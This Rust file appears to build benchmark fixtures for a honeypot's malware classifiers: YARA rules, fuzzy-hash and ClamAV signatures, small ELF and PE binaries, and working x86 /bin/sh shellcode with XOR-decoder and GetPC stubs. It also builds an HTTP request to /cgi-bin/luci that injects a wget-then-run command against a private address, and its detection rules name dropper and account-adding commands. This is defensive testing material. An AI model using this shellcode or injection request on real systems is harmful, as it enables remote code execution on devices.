//! Classifier fixtures shared by anbench (`--set classifiers`) and connbench
//! (`--scenario classifiers`), issue 6 point 8: everything the classifiers need to do
//! real work, written by the harness itself into a temporary directory.
//!
//! - tiny executables built here (ELF32 ARM, ELF64 x86-64, PE32) and hand-assembled
//!   x86 shellcode (jmp-call-pop XOR decoder, fnstenv GetPC, call/pop, NOP sled);
//! - a YARA ruleset ([`write_yara_rules`]): text strings (nocase, wide), hex
//!   patterns with jumps and wildcards, two regular expressions, the `pe` and `elf`
//!   modules; a few rules match the corpus, most do not (as in a real ruleset);
//! - a fuzzy signature list ([`write_fuzzy_signatures`]): sha256, md5, ssdeep and
//!   TLSH entries, some of them near the harness's own samples;
//! - a ClamAV database and a clamd started in the foreground ([`Clamd::start`]),
//!   as `tests/e2e_clamav.rs` does; `None` when clamd is not installed.
//!
//! Included by both examples with `#[path]`; not every item is used by both.
#![allow(dead_code)]

use anyhow::{bail, Context as _, Result};
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// splitmix64, for fixtures that are the same on every machine.
pub struct Mix(pub u64);

impl Mix {
    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    pub fn bytes(&mut self, n: usize) -> Vec<u8> {
        let mut v = Vec::with_capacity(n + 8);
        while v.len() < n {
            v.extend(self.next().to_le_bytes());
        }
        v.truncate(n);
        v
    }
    pub fn word(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| (b'a' + self.below(26) as u8) as char)
            .collect()
    }
}

// ---------------------------------------------------------------------------
// Executables and shellcode

/// `/bin/sh` execve (x86): the payload the decoder stub decodes.
pub const EXECVE_SH: &[u8] = &[
    0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68, 0x68, 0x2f, 0x62, 0x69, 0x6e, 0x89, 0xe3, 0x50,
    0x53, 0x89, 0xe1, 0xb0, 0x0b, 0xcd, 0x80,
];

/// x86 shellcode: a NOP sled of `sled` bytes, a jmp-call-pop stub with a
/// `xor byte [esi], key; inc esi; loop` decoder, and the XOR-encoded execve.
pub fn xor_shellcode(sled: usize, key: u8) -> Vec<u8> {
    let mut v = vec![0x90; sled];
    let n = EXECVE_SH.len() as u8;
    v.extend([
        0xeb, 0x0d, // jmp +13 (to the call)
        0x5e, // pop esi
        0x31, 0xc9, // xor ecx, ecx
        0xb1, n, // mov cl, n
        0x80, 0x36, key,  // xor byte [esi], key
        0x46, // inc esi
        0xe2, 0xfa, // loop (to the xor)
        0xeb, 0x05, // jmp +5 (to the decoded bytes)
        0xe8, 0xee, 0xff, 0xff, 0xff, // call -18 (to the pop)
    ]);
    v.extend(EXECVE_SH.iter().map(|b| b ^ key));
    v
}

/// x86 shellcode with an `fldz; fnstenv [esp-0xc]; pop ebx` GetPC and the plain
/// execve after it.
pub fn fnstenv_shellcode() -> Vec<u8> {
    let mut v = vec![0xd9, 0xee, 0xd9, 0x74, 0x24, 0xf4, 0x5b, 0x31, 0xc9];
    v.extend(EXECVE_SH);
    v
}

/// x86 `call $+5; pop eax` GetPC, then the execve.
pub fn callpop_shellcode() -> Vec<u8> {
    let mut v = vec![0xe8, 0, 0, 0, 0, 0x58, 0x83, 0xc0, 0x10];
    v.extend(EXECVE_SH);
    v
}

/// An ELF executable around `code` (placed at offset 0x80 for 32-bit, 0xb0 for
/// 64-bit): one PT_LOAD segment covering the whole file. `arm`: ELF32 LE ARM
/// (Mirai's favourite), else ELF64 LE x86-64.
pub fn elf(arm: bool, code: &[u8]) -> Vec<u8> {
    let (hdr, ph) = if arm { (52usize, 32usize) } else { (64, 56) };
    let start = (hdr + ph).next_multiple_of(16);
    let total = (start + code.len()) as u64;
    let mut v = b"\x7fELF".to_vec();
    v.extend([if arm { 1 } else { 2 }, 1, 1, 0]);
    v.extend([0u8; 8]);
    v.extend(2u16.to_le_bytes()); // ET_EXEC
    v.extend((if arm { 40u16 } else { 62 }).to_le_bytes());
    v.extend(1u32.to_le_bytes());
    let base = 0x10000u64;
    let word = |v: &mut Vec<u8>, x: u64| {
        if arm {
            v.extend((x as u32).to_le_bytes())
        } else {
            v.extend(x.to_le_bytes())
        }
    };
    word(&mut v, base + start as u64); // e_entry
    word(&mut v, hdr as u64); // e_phoff
    word(&mut v, 0); // e_shoff
    v.extend((if arm { 0x0500_0000u32 } else { 0 }).to_le_bytes()); // e_flags
    v.extend((hdr as u16).to_le_bytes());
    v.extend((ph as u16).to_le_bytes());
    v.extend(1u16.to_le_bytes()); // e_phnum
    v.extend((if arm { 40u16 } else { 64 }).to_le_bytes());
    v.extend(0u16.to_le_bytes()); // e_shnum
    v.extend(0u16.to_le_bytes()); // e_shstrndx
                                  // PT_LOAD, R+X, the whole file.
    v.extend(1u32.to_le_bytes());
    if arm {
        for x in [
            0,
            base as u32,
            base as u32,
            total as u32,
            total as u32,
            5,
            0x1000,
        ] {
            v.extend(x.to_le_bytes());
        }
    } else {
        v.extend(5u32.to_le_bytes());
        for x in [0, base, base, total, total, 0x1000] {
            v.extend(x.to_le_bytes());
        }
    }
    v.resize(start, 0);
    v.extend(code);
    v
}

/// A PE32 (x86, console) executable with one `.text` section holding `code`.
pub fn pe(code: &[u8]) -> Vec<u8> {
    let raw = code.len().next_multiple_of(0x200) as u32;
    let mut v = vec![0u8; 0x80];
    v[0..2].copy_from_slice(b"MZ");
    v[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    v[0x4e..0x4e + 38].copy_from_slice(b"This program cannot be run in DOS mode");
    v.extend(b"PE\0\0");
    v.extend(0x14cu16.to_le_bytes()); // i386
    v.extend(1u16.to_le_bytes()); // sections
    v.extend(0x5f00_0000u32.to_le_bytes()); // timestamp
    v.extend([0u8; 8]);
    v.extend(0xe0u16.to_le_bytes()); // optional header size
    v.extend(0x0102u16.to_le_bytes()); // executable, 32-bit
    let opt = v.len();
    v.resize(opt + 0xe0, 0);
    let put32 =
        |v: &mut Vec<u8>, at: usize, x: u32| v[at..at + 4].copy_from_slice(&x.to_le_bytes());
    v[opt..opt + 2].copy_from_slice(&0x10bu16.to_le_bytes());
    put32(&mut v, opt + 16, 0x1000); // entry point
    put32(&mut v, opt + 28, 0x40_0000); // image base
    put32(&mut v, opt + 32, 0x1000); // section alignment
    put32(&mut v, opt + 36, 0x200); // file alignment
    put32(&mut v, opt + 56, 0x1000 + raw.next_multiple_of(0x1000)); // image size
    put32(&mut v, opt + 60, 0x200); // headers size
    v[opt + 68..opt + 70].copy_from_slice(&3u16.to_le_bytes()); // console
    put32(&mut v, opt + 92, 16); // data directories
    let mut sec = b".text\0\0\0".to_vec();
    for x in [code.len() as u32, 0x1000, raw, 0x200, 0, 0, 0] {
        sec.extend(x.to_le_bytes());
    }
    sec.extend(0x6000_0020u32.to_le_bytes());
    v.extend(sec);
    v.resize(0x200, 0);
    v.extend(code);
    v.resize(0x200 + raw as usize, 0);
    v
}

/// The bytes connbench's `classifiers` request carries and the fixtures match:
/// an ELF32 ARM bot whose code holds the XOR shellcode and some strings.
pub fn bench_elf() -> Vec<u8> {
    let mut code = xor_shellcode(24, 0x5a);
    code.extend(b"\0/bin/busybox HTBENCH\0POST /cdn-cgi/ HTTP/1.1\0GBOT-BENCH\0");
    code.extend(Mix(7).bytes(900));
    elf(true, &code)
}

/// connbench's `classifiers` request: an exploit-like POST whose query holds a
/// percent-encoded `wget` of a private address (percent, http downloader) and
/// whose body is a NOP sled and GetPC shellcode followed by an embedded ELF
/// (exe extracts it; fuzzy, yara, clamav and shellcode see payload and ELF).
pub fn bench_request() -> Vec<u8> {
    let mut body = Vec::new();
    body.extend(b"\x41".repeat(64));
    body.extend(xor_shellcode(32, 0x3c));
    body.extend(fnstenv_shellcode());
    body.extend(b"\r\n");
    body.extend(bench_elf());
    let mut v = format!(
        "POST /cgi-bin/luci?cmd=%63%64%20%2Ftmp%3B%20wget%20http%3A%2F%2F10.9.8.7%2Fbins%2Fx.arm7%3B%20sh%20x.arm7 HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    v.extend(body);
    v
}

// ---------------------------------------------------------------------------
// YARA

/// Write the ruleset into `dir` (three files, three namespaces); returns the
/// number of rules.
pub fn write_yara_rules(dir: &Path, seed: u64) -> Result<usize> {
    std::fs::create_dir_all(dir)?;
    let mut r = Mix(seed);
    let mut total = 0;
    for (file, n, extra) in [
        ("botnets.yar", 40, MATCHING_BOTNETS),
        ("droppers.yar", 40, MATCHING_DROPPERS),
        ("exploits.yar", 40, MATCHING_EXPLOITS),
    ] {
        let mut text = String::new();
        if file == "exploits.yar" {
            text.push_str("import \"pe\"\nimport \"elf\"\n\n");
        }
        text.push_str(extra);
        total += extra.matches("\nrule ").count();
        for i in 0..n {
            text.push_str(&random_rule(&mut r, file, i));
            total += 1;
        }
        std::fs::write(dir.join(file), text)?;
    }
    Ok(total)
}

/// One rule that (almost surely) matches nothing: strings from the malware
/// vocabulary of real rules, hex with jumps and wildcards, varied conditions.
fn random_rule(r: &mut Mix, file: &str, i: usize) -> String {
    let stem = file.trim_end_matches(".yar");
    let mut s = format!(
        "rule {}_{}_{i} : {} {{\n    meta:\n        author = \"anbench\"\n        score = {}\n    strings:\n",
        stem,
        r.word(6),
        ["linux", "windows", "botnet", "miner"][r.below(4)],
        40 + r.below(60)
    );
    let n = 2 + r.below(4);
    for k in 0..n {
        let line = match r.below(6) {
            0 => format!("\"/tmp/.{}\"", r.word(8)),
            1 => format!(
                "\"{}.{}\" nocase",
                r.word(9),
                ["exe", "dll", "sh", "arm7"][r.below(4)]
            ),
            2 => format!(
                "\"{}{}\" wide ascii",
                r.word(7).to_uppercase(),
                r.below(1000)
            ),
            3 => {
                let a: Vec<String> = (0..4).map(|_| format!("{:02X}", r.below(256))).collect();
                let b: Vec<String> = (0..3).map(|_| format!("{:02X}", r.below(256))).collect();
                format!(
                    "{{ {} [{}-{}] {} ?? {:02X} }}",
                    a.join(" "),
                    r.below(4),
                    4 + r.below(60),
                    b.join(" "),
                    r.below(256)
                )
            }
            4 => format!(
                "\"User-Agent: {}/{}.{}\"",
                r.word(8),
                r.below(9),
                r.below(9)
            ),
            _ => {
                let a: Vec<String> = (0..6).map(|_| format!("{:02X}", r.below(256))).collect();
                format!("{{ {} }}", a.join(" "))
            }
        };
        let _ = writeln!(s, "        $s{k} = {line}");
    }
    let cond = match r.below(5) {
        0 => "any of them".to_string(),
        1 => "2 of them".to_string(),
        2 => "all of them".to_string(),
        3 => "filesize < 2MB and any of ($s*)".to_string(),
        _ => "uint16(0) == 0x5a4d and any of them".to_string(),
    };
    let _ = write!(s, "    condition:\n        {cond}\n}}\n\n");
    s
}

const MATCHING_BOTNETS: &str = r#"
rule Mirai_Busybox_Marker : botnet linux {
    meta:
        description = "busybox applet name used as a bot marker"
        score = 70
    strings:
        $a = "/bin/busybox" ascii
        $b = /busybox [A-Z]{5,10}/
    condition:
        $a and $b
}

rule ELF_ARM_Small : linux {
    meta:
        description = "small 32-bit ARM ELF executable"
    strings:
        $elf = { 7F 45 4C 46 01 01 01 [9] 02 00 28 00 }
    condition:
        $elf at 0 and filesize < 512KB
}

rule Dropper_Wget_Private : dropper {
    strings:
        $w = /wget\s+https?:\/\/[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\/[A-Za-z0-9._\/-]+/
    condition:
        $w
}
"#;

const MATCHING_DROPPERS: &str = r#"
rule PowerShell_Encoded : windows {
    strings:
        $p = "powershell" nocase ascii wide
        $e = /-(e|enc|encodedcommand)\s+[A-Za-z0-9+\/=]{16}/ nocase
    condition:
        $p and $e
}

rule Cmd_Net_User_Add : windows {
    strings:
        $a = "net user" ascii wide nocase
        $b = "/add" ascii wide
    condition:
        all of them
}

rule Tftp_Get : dropper {
    strings:
        $a = "tftp -g" ascii
        $b = "tftp -i" ascii
    condition:
        any of them
}
"#;

const MATCHING_EXPLOITS: &str = r#"
rule Shellcode_JmpCallPop_Xor : shellcode {
    meta:
        description = "jmp-call-pop stub with a one-byte XOR decoder loop"
    strings:
        $stub = { EB ?? 5E 31 C9 B1 ?? 80 36 ?? 46 E2 FA EB ?? E8 ?? FF FF FF }
    condition:
        $stub
}

rule Shellcode_Fnstenv_GetPC : shellcode {
    strings:
        $g = { D9 EE D9 74 24 F4 5? }
    condition:
        $g
}

rule Shellcode_BinSh_Push : shellcode {
    strings:
        $s = { 68 2F 2F 73 68 68 2F 62 69 6E [0-4] 89 E3 }
    condition:
        $s
}

rule PE_Small_Console : windows {
    condition:
        pe.is_pe and pe.number_of_sections < 3 and pe.subsystem == pe.SUBSYSTEM_WINDOWS_CUI
}

rule ELF_Single_Segment : linux {
    condition:
        elf.type == elf.ET_EXEC and elf.number_of_segments == 1
}

rule NTLMSSP_Auth {
    strings:
        $n = { 4E 54 4C 4D 53 53 50 00 03 00 00 00 }
    condition:
        $n
}
"#;

// ---------------------------------------------------------------------------
// Fuzzy signatures

/// Write a signature file of `n` entries per algorithm (sha256, md5, ssdeep,
/// TLSH): hashes of random samples, plus entries for `near` (exact digests and
/// the fuzzy hashes of a slightly changed copy, so they match). Returns the path.
pub fn write_fuzzy_signatures(dir: &Path, n: usize, near: &[Vec<u8>]) -> Result<PathBuf> {
    use md5::Digest as _;
    std::fs::create_dir_all(dir)?;
    let mut r = Mix(11);
    let mut text = String::from("# name<TAB>algorithm<TAB>value (written by the benchmark)\n");
    for i in 0..n {
        let _ = writeln!(
            text,
            "random-sha256-{i}\tsha256\t{}",
            hex::encode(r.bytes(32))
        );
        let _ = writeln!(text, "random-md5-{i}\tmd5\t{}", hex::encode(r.bytes(16)));
        let n = 2048 + r.below(64 << 10);
        let sample = r.bytes(n);
        let h = honeytrap::analysis::fuzzy::hashes(&sample);
        let _ = writeln!(text, "random-ssdeep-{i}\tssdeep\t{}", h.ssdeep);
        if let Some(t) = h.tlsh {
            let _ = writeln!(text, "random-tlsh-{i}\ttlsh\t{t}");
        }
    }
    for (i, s) in near.iter().enumerate() {
        let _ = writeln!(
            text,
            "bench-{i}\tsha256\t{}",
            hex::encode(sha2::Sha256::digest(s))
        );
        let _ = writeln!(text, "bench-{i}\tmd5\t{}", hex::encode(md5::Md5::digest(s)));
        let mut changed = s.clone();
        for k in (100..changed.len()).step_by(997) {
            changed[k] ^= 0x55;
        }
        let h = honeytrap::analysis::fuzzy::hashes(&changed);
        let _ = writeln!(text, "bench-{i}-variant\tssdeep\t{}", h.ssdeep);
        if let Some(t) = h.tlsh {
            let _ = writeln!(text, "bench-{i}-variant\ttlsh\t{t}");
        }
    }
    let path = dir.join("signatures.tsv");
    std::fs::write(&path, text)?;
    Ok(path)
}

// ---------------------------------------------------------------------------
// ClamAV

/// Where clamd is installed (Debian's clamav-daemon), if it is.
pub fn clamd_binary() -> Option<&'static str> {
    ["/usr/sbin/clamd", "/usr/bin/clamd"]
        .into_iter()
        .find(|p| Path::new(p).exists())
}

/// The database: body signatures (`.ndb`, with wildcards and jumps) of which a
/// few match the harness's shellcode and ELF, and MD5 file signatures (`.hdb`).
pub fn write_clamav_db(db: &Path, n: usize) -> Result<usize> {
    use md5::Digest as _;
    std::fs::create_dir_all(db)?;
    let mut r = Mix(13);
    let mut ndb = String::new();
    let hexs = |r: &mut Mix, k: usize| hex::encode(r.bytes(k));
    for i in 0..n {
        let line = match i % 4 {
            0 => format!("Bench.Random.Body-{i}:0:*:{}", hexs(&mut r, 12)),
            1 => format!(
                "Bench.Random.Wild-{i}:0:*:{}??{}{{4-32}}{}",
                hexs(&mut r, 6),
                hexs(&mut r, 4),
                hexs(&mut r, 6)
            ),
            2 => format!(
                "Bench.Random.Elf-{i}:6:*:{}*{}",
                hexs(&mut r, 8),
                hexs(&mut r, 8)
            ),
            _ => format!(
                "Bench.Random.Str-{i}:0:*:{}",
                hex::encode(format!("/tmp/.{}", r.word(10)))
            ),
        };
        ndb.push_str(&line);
        ndb.push('\n');
    }
    // Matching: the XOR decoder stub (any key) and the bench bot's marker.
    ndb.push_str("Bench.Shellcode.XorStub:0:*:eb??5e31c9b1??8036??46e2faeb??e8??ffffff\n");
    ndb.push_str(&format!(
        "Bench.Linux.Gbot:6:*:{}\n",
        hex::encode("GBOT-BENCH")
    ));
    std::fs::write(db.join("bench.ndb"), ndb)?;
    let mut hdb = String::new();
    for i in 0..n {
        let _ = writeln!(
            hdb,
            "{}:{}:Bench.Random.Hash-{i}",
            hex::encode(r.bytes(16)),
            1000 + r.below(1 << 20)
        );
    }
    let elf = bench_elf();
    let _ = writeln!(
        hdb,
        "{}:{}:Bench.Linux.Gbot.Exact",
        hex::encode(md5::Md5::digest(&elf)),
        elf.len()
    );
    std::fs::write(db.join("bench.hdb"), hdb)?;
    Ok(2 * n + 3)
}

/// clamd run by the harness in the foreground with its own config, socket and
/// database; killed (by its pid) when dropped.
pub struct Clamd {
    child: Child,
    pub socket: PathBuf,
    pub signatures: usize,
    /// clamd's TemporaryDirectory (each INSTREAM is written to a file there).
    pub tmp: tempfile::TempDir,
    pub nice: i32,
}

impl Clamd {
    /// Start clamd in `dir` (config, socket, database with `n` random signatures
    /// of each kind) at nice value `nice`; `Ok(None)` when clamd is not installed.
    pub fn start(dir: &Path, n: usize, nice: i32) -> Result<Option<Clamd>> {
        let Some(bin) = clamd_binary() else {
            return Ok(None);
        };
        std::fs::create_dir_all(dir)?;
        let db = dir.join("db");
        let signatures = write_clamav_db(&db, n)?;
        let socket = dir.join("clamd.sock");
        let log = dir.join("clamd.log");
        // clamd writes every stream to a file before scanning it: on a disk file
        // system the creating and deleting costs it more CPU than the scan itself.
        // tmpfs, as /tmp is on current Debian (and as a sensor should give clamd).
        let tmp = tempfile::Builder::new().prefix("clamd-tmp-").tempdir_in(
            if Path::new("/dev/shm").is_dir() {
                Path::new("/dev/shm")
            } else {
                dir
            },
        )?;
        let conf = dir.join("clamd.conf");
        std::fs::write(
            &conf,
            format!(
                "LocalSocket {}\nLocalSocketMode 666\nDatabaseDirectory {}\nLogFile {}\n\
                 TemporaryDirectory {}\nPidFile {}\nForeground true\nUser root\n\
                 SelfCheck 0\nStreamMaxLength 25M\n",
                socket.display(),
                db.display(),
                log.display(),
                tmp.path().display(),
                dir.join("clamd.pid").display()
            ),
        )?;
        let _ = std::fs::remove_file(&socket);
        let mut cmd = Command::new(bin);
        // SAFETY: setpriority and prctl only read their arguments (0: this process,
        // the child before exec; clamd's threads inherit the nice value).
        unsafe {
            std::os::unix::process::CommandExt::pre_exec(&mut cmd, move || {
                libc::setpriority(libc::PRIO_PROCESS, 0, nice);
                // clamd dies with the harness, also when Drop does not run (Ctrl-C).
                libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGTERM);
                Ok(())
            });
        }
        let child = cmd
            .arg("--foreground")
            .arg(format!("--config-file={}", conf.display()))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .context("starting clamd")?;
        let mut c = Clamd {
            child,
            socket,
            signatures,
            tmp,
            nice,
        };
        let t0 = Instant::now();
        while std::os::unix::net::UnixStream::connect(&c.socket).is_err() {
            if let Ok(Some(st)) = c.child.try_wait() {
                bail!(
                    "clamd exited ({st}):\n{}",
                    std::fs::read_to_string(&log).unwrap_or_default()
                );
            }
            if t0.elapsed() > Duration::from_secs(90) {
                bail!(
                    "clamd did not open {} in 90 s:\n{}",
                    c.socket.display(),
                    std::fs::read_to_string(&log).unwrap_or_default()
                );
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        Ok(Some(c))
    }

    pub fn pid(&self) -> u32 {
        self.child.id()
    }

    /// CPU time clamd has used (all its threads).
    pub fn cpu(&self) -> Option<Duration> {
        let s = std::fs::read_to_string(format!("/proc/{}/stat", self.pid())).ok()?;
        let f: Vec<&str> = s[s.rfind(')')? + 2..].split_whitespace().collect();
        let ticks: u64 = f.get(11)?.parse::<u64>().ok()? + f.get(12)?.parse::<u64>().ok()?;
        // SAFETY: sysconf only reads its argument.
        let hz = unsafe { libc::sysconf(libc::_SC_CLK_TCK) }.max(1) as u64;
        Some(Duration::from_nanos(ticks * 1_000_000_000 / hz))
    }
}

impl Drop for Clamd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = std::fs::remove_file(&self.socket);
    }
}

/// Everything the classifiers need, in one temporary directory.
pub struct Fixtures {
    pub dir: tempfile::TempDir,
    pub rules_dir: PathBuf,
    pub rules: usize,
    pub signatures: PathBuf,
    pub clamd: Option<Clamd>,
}

impl Fixtures {
    /// Write the rules and signatures, start clamd at `clamd_nice` (unless
    /// `no_clamd`).
    pub fn new(near: &[Vec<u8>], no_clamd: bool, clamd_nice: i32) -> Result<Fixtures> {
        let dir = tempfile::Builder::new().prefix("classifiers-").tempdir()?;
        let rules_dir = dir.path().join("yara");
        let rules = write_yara_rules(&rules_dir, 5)?;
        let signatures = write_fuzzy_signatures(&dir.path().join("fuzzy"), 25, near)?;
        let clamd = if no_clamd {
            None
        } else {
            Clamd::start(&dir.path().join("clamd"), 50, clamd_nice)?
        };
        Ok(Fixtures {
            dir,
            rules_dir,
            rules,
            signatures,
            clamd,
        })
    }

    /// `[analyzer.*]` tables turning every classifier on with these fixtures
    /// (clamav only with a clamd).
    pub fn toml(&self) -> String {
        let mut t = format!(
            "[analyzer.exe]\nenabled = true\n\n[analyzer.shellcode]\nenabled = true\n\n\
             [analyzer.fuzzy]\nenabled = true\nsignatures = \"{}\"\n\n\
             [analyzer.yara]\nenabled = true\nrules_dir = \"{}\"\n\n",
            self.signatures.display(),
            self.rules_dir.display()
        );
        if let Some(c) = &self.clamd {
            let _ = write!(
                t,
                "[analyzer.clamav]\nenabled = true\nsocket = \"{}\"\n\n",
                c.socket.display()
            );
        }
        t
    }

    /// One line saying what the fixtures hold.
    pub fn describe(&self) -> String {
        format!(
            "yara: {} rules in 3 files ({}); fuzzy: {} signatures ({}); clamav: {}",
            self.rules,
            self.rules_dir.display(),
            std::fs::read_to_string(&self.signatures)
                .map(|t| t.lines().filter(|l| !l.starts_with('#')).count())
                .unwrap_or(0),
            self.signatures.display(),
            match &self.clamd {
                Some(c) => format!(
                    "clamd pid {} (nice {}) with {} signatures of the harness ({}, TemporaryDirectory {})",
                    c.pid(),
                    c.nice,
                    c.signatures,
                    c.socket.display(),
                    c.tmp.path().display()
                ),
                None if clamd_binary().is_none() => "clamd not available".into(),
                None => "off (--no-clamd)".into(),
            }
        )
    }
}
